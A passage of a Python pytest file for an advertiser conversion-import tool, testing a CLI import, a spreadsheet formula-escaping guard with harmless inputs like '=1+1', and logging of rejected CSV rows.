    make_world(fresh)
    try:
        result = cli_runner(f"sqlite:///{tmp_path / 'fresh.db'}")(
            "import", str(path), "--advertiser", str(world.advertiser_id), "--json"
        )
        assert result.exit_code == 0, result.output
        expected = current(list(world.storage.conversions(advertiser_id=world.advertiser_id)))
        assert current(list(fresh.conversions())) == expected
        assert set(expected) == {FORMULAS["reference_id"], "'=already quoted"}
    finally:
        fresh.close()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        pytest.param("=1+1", "'=1+1", id="equals"),
        pytest.param("+1", "'+1", id="plus"),
        pytest.param("-1", "'-1", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\tx", "'\tx", id="tab"),
        pytest.param("\rx", "'\rx", id="carriage-return"),
        pytest.param("'=x", "''=x", id="already-quoted"),
        pytest.param("'x", "'x", id="quote-before-text"),
        pytest.param("plain", "plain", id="plain"),
        pytest.param("", "", id="empty"),
    ],
)
def test_the_formula_guard_is_undone_exactly(text: str, cell: str) -> None:
    assert formula_safe(text) == cell
    assert formula_unsafe(cell) == text


def test_a_refused_row_keeps_its_reference_id_in_the_log(
    app: TestApp, auth: dict[str, str], world: World
) -> None:
    upload(app, auth, 'reference_id,sale_amount\nr-7,"1,00"\n')
    [rejection] = world.storage.rejections()
    assert (rejection.reason, rejection.reference_id) == ("invalid_sale_amount", "r-7")
    assert rejection.detail.startswith("row 2: sale_amount must be")
